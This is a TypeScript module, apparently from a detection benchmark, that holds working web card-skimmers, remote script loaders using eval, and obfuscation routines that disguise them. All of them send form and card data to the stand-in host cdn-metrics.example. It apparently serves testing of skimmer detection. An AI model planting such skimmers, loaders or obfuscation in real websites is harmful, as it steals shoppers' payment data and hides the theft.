// Owns the thefts that the benchmark adds to scripts: harmless in themselves, since every host is reserved for examples (RFC 2606).
import { minify } from 'terser'

export const thiefHost = 'cdn-metrics.example'

/** Thefts in plain code, by technique. Each is a program of its own, many lines long. */
export const skimmers: Readonly<Record<string, string>> = {
  'listener and beacon': `(function () {
  var field = document.querySelector('input[name="cardnumber"]');
  if (!field) return;
  field.addEventListener('change', function (event) {
    navigator.sendBeacon('https://${thiefHost}/c', JSON.stringify({ n: event.target.value }));
  });
})();`,
  'submit and fetch': `document.addEventListener('submit', function (event) {
  var data = {};
  new FormData(event.target).forEach(function (value, key) { data[key] = value; });
  fetch('https://${thiefHost}/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(data) });
}, true);`,
  'all fields and an image': `setInterval(function () {
  var out = [];
  var fields = document.querySelectorAll('input, select, textarea');
  for (var i = 0; i < fields.length; i++) out.push(fields[i].name + '=' + fields[i].value);
  if (out.length) new Image().src = 'https://${thiefHost}/p.gif?d=' + btoa(out.join('&'));
}, 3000);`,
  'keys and a socket': `(function () {
  var socket = new WebSocket('wss://${thiefHost}/s');
  document.addEventListener('keyup', function (event) {
    if (event.target.name === 'cc-number') socket.send(event.target.value);
  });
})();`,
  'request replaced': `(function (send) {
  XMLHttpRequest.prototype.send = function (body) {
    var copy = new XMLHttpRequest();
    copy.open('POST', 'https://${thiefHost}/x');
    send.call(copy, body);
    return send.apply(this, arguments);
  };
})(XMLHttpRequest.prototype.send);`,
  'form sent elsewhere': `document.querySelectorAll('form').forEach(function (form) {
  if (form.querySelector('[autocomplete="cc-number"]')) form.action = 'https://${thiefHost}/pay';
});`,
}

/** Programs that only bring others in. */
export const loaders: Readonly<Record<string, string>> = {
  'script element': `(function (d) { var s = d.createElement('script'); s.async = true; s.src = 'https://${thiefHost}/a.js'; d.head.appendChild(s); })(document);`,
  'written markup': `document.write('<scr' + 'ipt src="https://${thiefHost}/a.js"></scr' + 'ipt>');`,
  import: `import('https://${thiefHost}/a.mjs');`,
  'hidden address': `(function () { var s = document.createElement('script'); s.src = atob('${Buffer.from(`https://${thiefHost}/a.js`).toString('base64')}'); document.body.appendChild(s); })();`,
  'own host': `(function () { var s = document.createElement('script'); s.src = '/media/cache/stat.js'; document.body.appendChild(s); })();`,
  'fetched and run': `fetch('https://${thiefHost}/a').then(function (r) { return r.text(); }).then(function (t) { (0, eval)(t); });`,
}

/** Ways in which code is hidden, each from a program to one that does the same. */
export const disguises: Readonly<Record<string, (code: string) => Promise<string>>> = {
  plain: async (code) => code,
  minified: async (code) => (await minify(code, { compress: true, mangle: { toplevel: true } })).code ?? code,
  'base64 and eval': async (code) => `eval(atob("${Buffer.from(code).toString('base64')}"));`,
  'character codes': async (code) => `Function(String.fromCharCode(${[...code].map((one) => one.charCodeAt(0)).join(',')}))();`,
  'list of texts': async (code) => hideTexts(code),
}

/** Puts the texts and names of members into a list that is turned before it is used, as common obfuscators do. */
function hideTexts(code: string): string {
  const texts: string[] = []
  const numberOf = (text: string) => {
    if (!texts.includes(text)) texts.push(text)
    return texts.indexOf(text)
  }
  const body = code.replace(/'([^'\\\n]*)'|\.([a-zA-Z]{3,30})\b(?!\s*:)/g, (_, text: string | undefined, member: string | undefined) =>
    text === undefined ? `[_0x1a2b(${numberOf(member ?? '')})]` : `_0x1a2b(${numberOf(text)})`,
  )
  const turned = texts.map((_, index) => Buffer.from(texts[(index + texts.length - 3) % texts.length] ?? '').toString('base64'))
  const list = JSON.stringify(turned)
  return `var _0x3c4d=${list};(function(_0x5e6f,_0x7a8b){while(_0x7a8b--){_0x5e6f['push'](_0x5e6f['shift']());}})(_0x3c4d,3);var _0x1a2b=function(_0x9c0d){return atob(_0x3c4d[_0x9c0d]);};${body}`
}
